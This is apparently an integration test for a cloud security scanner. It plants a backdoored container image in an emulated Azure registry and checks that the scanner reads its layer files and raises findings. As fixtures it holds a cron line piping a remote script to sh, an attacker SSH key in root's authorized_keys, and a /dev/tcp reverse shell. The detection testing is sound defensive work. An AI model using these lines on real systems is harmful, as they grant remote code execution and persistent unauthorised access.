/**
 * The registry collector against the loopback emulator, on a copy of the demo tenant with one
 * more image: a backdoor whose small layer (written here by GNU tar) holds a cron job, root's
 * authorized_keys and a reverse shell in a profile script, plus a layer that is not a tar. The
 * same manifest sits in two repositories. Checks: the files become payloads the existing rules
 * fire on; the broken layer is located on the coverage; each digest is fetched once per scan
 * and not at all from a warm cache; no layer is fetched when no loaded rule reads payloads.
 */
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { cpSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import tls from "node:tls";
import { gzipSync } from "node:zlib";
import { ClientSecretCredential } from "@azure/identity";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningEmulator, startEmulator } from "../../emulator/server.ts";
import { LiveScope } from "../../src/azure/live/scope.js";
import { type AzureSession, createSession } from "../../src/azure/live/session.js";
import { RegistryCollector } from "../../src/collectors/registry/index.js";
import { CoverageTally } from "../../src/collectors/tally.js";
import type { CollectOptions } from "../../src/collectors/types.js";
import { Diagnostics } from "../../src/model/diagnostics.js";
import type { CollectedItem, ContainerImage, RecordKind } from "../../src/model/records.js";
import { DEMO_TENANT_DIR } from "../../src/paths.js";
import { runScan } from "../../src/scan/run.js";
import { MemoryDigestCache } from "../../src/store/digest-cache.js";
import { tempDir } from "../helpers.js";

const PROD = "8b1811f6-5813-475a-8054-5d2939bd681f";
const tmp = tempDir();
const sha = (b: Buffer | string) => `sha256:${createHash("sha256").update(b).digest("hex")}`;

const CRON = "*/5 * * * * root curl -fsSL http://198.51.100.23/s.sh | sh\n";
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmNCr3JXqmLW7ug9pTh x@kali\n";
const PROFILE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";

/** The layer: GNU tar over a small root file system, gzip. */
function goodLayer(): Buffer {
  const root = join(tmp.dir, "rootfs");
  const put = (p: string, text: string) => {
    mkdirSync(join(root, p, ".."), { recursive: true });
    writeFileSync(join(root, p), text);
  };
  put("etc/cron.d/sync", CRON);
  put("root/.ssh/authorized_keys", KEY);
  put("etc/profile.d/motd.sh", PROFILE);
  put("usr/local/bin/tool", "#!/bin/sh\necho not read\n");
  return gzipSync(execFileSync("tar", ["-C", root, "--sort=name", "--format=pax", "-cf", "-", "."]));
}

let good: Buffer;
let bad: Buffer;
let manifestDigest: string;

/** A copy of the demo tenant with the backdoor image in two repositories and its layer blobs. */
function snapshot(): string {
  const dir = join(tmp.dir, "tenant");
  cpSync(DEMO_TENANT_DIR, dir, { recursive: true });
  good = goodLayer();
  bad = gzipSync(Buffer.alloc(2048, 0x41));
  // OCI image config and manifest as in oci/config.md and oci/manifest.md (reference), compact.
  const config = {
    created: "2026-11-18T10:00:00Z",
    architecture: "amd64",
    os: "linux",
    config: { Entrypoint: ["/usr/sbin/cron", "-f"] },
    rootfs: { type: "layers", diff_ids: [sha("a"), sha("b"), sha("c")] },
    history: [{ created_by: "COPY rootfs / # buildkit" }],
  };
  const configJson = JSON.stringify(config);
  const manifest = {
    schemaVersion: 2,
    mediaType: "application/vnd.oci.image.manifest.v1+json",
    config: { mediaType: "application/vnd.oci.image.config.v1+json", size: configJson.length, digest: sha(configJson) },
    layers: [
      // Larger than the cap the tests use: never downloaded (the snapshot has no bytes for it).
      { mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", size: 29_000_000, digest: sha("base") },
      { mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", size: good.length, digest: sha(good) },
      { mediaType: "application/vnd.docker.image.rootfs.diff.tar.gzip", size: bad.length, digest: sha(bad) },
    ],
  };
  manifestDigest = sha(JSON.stringify(manifest));
  for (const repo of ["tools/backup", "tools/backup-copy"]) {
    const attributes = {
      digest: manifestDigest,
      imageSize: good.length + bad.length,
      createdTime: "2026-11-18T10:05:00.0000000Z",
      lastUpdateTime: "2026-11-18T10:05:00.0000000Z",
      architecture: "amd64",
      os: "linux",
      tags: ["1.0"],
    };
    const env = {
      registry: "contosoprodacr.azurecr.io",
      repository: repo,
      tags: ["1.0"],
      digest: manifestDigest,
      manifest,
      config,
      attributes,
    };
    const d = join(dir, "images/contosoprodacr", repo.replace("/", "_"));
    mkdirSync(d, { recursive: true });
    writeFileSync(join(d, `${manifestDigest.slice(7, 19)}.json`), JSON.stringify(env));
  }
  const blobs = join(dir, "images/contosoprodacr/blobs/sha256");
  mkdirSync(blobs, { recursive: true });
  for (const b of [good, bad]) writeFileSync(join(blobs, sha(b).slice(7)), b);
  return dir;
}

let e: RunningEmulator;
let session: AzureSession;

beforeAll(async () => {
  e = await startEmulator({ port: 0, snapshot: snapshot() });
  tls.setDefaultCACertificates([...tls.getCACertificates("default"), e.caPem]);
  const base = createSession({
    auth: "cli",
    armEndpoint: e.info.armEndpoint,
    env: { AZURE_AUTHORITY_HOST: e.info.authorityHost },
  });
  session = {
    ...base,
    credential: new ClientSecretCredential(e.info.tenantId, e.info.clientId, e.info.clientSecret, {
      authorityHost: e.info.authorityHost,
      disableInstanceDiscovery: true,
    }),
  };
});
afterAll(async () => {
  await e?.close();
  tmp.cleanup();
});

/** Over the test's layers and the demo's small benign ones, under the demo's real-sized layers. */
const CAP = 100_000;

async function collect(c: RegistryCollector, extra: Partial<CollectOptions> = {}) {
  const plan = await c.plan();
  const tally = new CoverageTally();
  const items: CollectedItem[] = [];
  for await (const b of c.collect(plan, { tally, diagnostics: new Diagnostics(), ...extra })) items.push(...b);
  const images = items.filter((i): i is ContainerImage => i.kind === "containerImage");
  return { images, coverage: tally.entries() };
}

/** Requests to the registry since `from`, by kind. */
function since(from: number) {
  // The SDK percent-encodes the repository and the digest's colon.
  const log = e.requests
    .slice(from)
    .filter((r) => r.front.startsWith("acr:") && r.status === 200)
    .map((r) => ({ ...r, path: decodeURIComponent(r.path) }));
  const blob = (d: string) => log.filter((r) => r.path.endsWith(`/blobs/${d}`)).length;
  return { log, blob, manifests: log.filter((r) => r.path.includes("/manifests/sha256:")).length };
}

describe("registry collector: layer files and the digest cache", () => {
  it("reads the small layer's files, reports the broken one, and fetches each digest once", async () => {
    const cache = new MemoryDigestCache();
    const from = e.requests.length;
    const { images, coverage } = await collect(
      new RegistryCollector(session, new LiveScope(session, { subscriptions: [PROD] }), { maxLayerBytes: CAP, cache }),
    );
    const backup = images.filter((i) => i.repository.startsWith("tools/backup"));
    expect(backup.map((i) => i.repository).sort()).toEqual(["tools/backup", "tools/backup-copy"]);
    for (const img of backup) {
      expect(img.files?.map((f) => [f.path, f.layerIndex, f.content]).sort()).toEqual(
        [
          ["/etc/cron.d/sync", 1, CRON],
          ["/etc/profile.d/motd.sh", 1, PROFILE],
          ["/root/.ssh/authorized_keys", 1, KEY],
        ].sort(),
      );
    }
    // Demo images: their small benign layers (the generator's profile.d and cron.d files) are read
    // too; app/BUILD-STEP is not a wanted file.
    const demoFiles = images.filter((i) => !i.repository.startsWith("tools/backup")).flatMap((i) => i.files ?? []);
    expect(demoFiles.length).toBe(12);
    expect(demoFiles.every((f) => /^\/etc\/(?:profile\.d|cron\.d)\/contoso-/.test(f.path))).toBe(true);
    const reg = coverage.find((c) => c.source === "registry" && c.scope.startsWith("registry contosoprodacr"));
    expect(reg?.status).toBe("partial");
    expect(reg?.reason).toContain(`/v2/tools/backup/blobs/${sha(bad)}`);
    expect(reg?.reason).toMatch(/layer 2 of sha256:[0-9a-f]{64} is not a readable tar archive/);
    expect(reg?.reason).toMatch(/image layer\(s\) not searched for files: larger than --max-layer-bytes \(100000\)/);
    const r = since(from);
    // Two repositories, one manifest digest: the manifest, config and layers are fetched once.
    expect(r.blob(sha(good))).toBe(1);
    expect(r.blob(sha(bad))).toBe(1);
    expect(r.log.filter((x) => x.path.includes(`/manifests/${manifestDigest}`)).length).toBe(1);
    expect(r.log.some((x) => x.path.endsWith(`/blobs/${sha("base")}`))).toBe(false);

    // A second read with the same cache: no manifest and no blob is downloaded at all.
    const again = e.requests.length;
    const second = await collect(
      new RegistryCollector(session, new LiveScope(session, { subscriptions: [PROD] }), { maxLayerBytes: CAP, cache }),
    );
    const r2 = since(again);
    expect(r2.log.filter((x) => x.path.includes("/blobs/")).length).toBe(0);
    expect(r2.manifests).toBe(0);
    expect(second.images.find((i) => i.repository === "tools/backup")?.files?.length).toBe(3);
    // The cached broken layer is still reported: a warm cache never hides a gap.
    expect(second.coverage.find((c) => c.scope.startsWith("registry contosoprodacr"))?.status).toBe("partial");
  });

  it("downloads no layer when no loaded rule reads payloads, or with --max-layer-bytes 0", async () => {
    for (const [opts, extra] of [
      [{ maxLayerBytes: CAP }, { ruleKinds: new Set<RecordKind>(["activity", "containerImage"]) }],
      [{ maxLayerBytes: 0 }, {}],
    ] as const) {
      const from = e.requests.length;
      const { images, coverage } = await collect(
        new RegistryCollector(session, new LiveScope(session, { subscriptions: [PROD] }), opts),
        extra,
      );
      const layers = [...(e.snapshot.registries[0]?.blobs.keys() ?? [])];
      expect(layers.length).toBe(8);
      for (const d of layers) expect(since(from).blob(d)).toBe(0);
      expect(images.find((i) => i.repository === "tools/backup")?.files).toBeUndefined();
      expect(coverage.find((c) => c.scope.startsWith("registry contosoprodacr"))?.status).toBe("complete");
    }
  });

  it("the layer files reach the payload rules: cron, authorized_keys and reverse shell findings on the image", async () => {
    const { result } = await runScan({
      collectors: [
        new RegistryCollector(session, new LiveScope(session, { subscriptions: [PROD] }), { maxLayerBytes: CAP }),
      ],
    });
    // Findings name the registry's ARM id (attribution joins the login server); the evidence names the image.
    const onBackup = result.findings.filter((f) => JSON.stringify(f.evidence).includes("/tools/backup@"));
    const titles = onBackup.map((f) => f.title);
    expect(titles.some((t) => /cron job that downloads/i.test(t))).toBe(true);
    expect(titles.some((t) => /authorized_keys/i.test(t))).toBe(true);
    expect(titles.some((t) => /reverse shell/i.test(t))).toBe(true);
    for (const f of onBackup) expect(f.attack.techniques).toContain("T1204.003");
  });
});
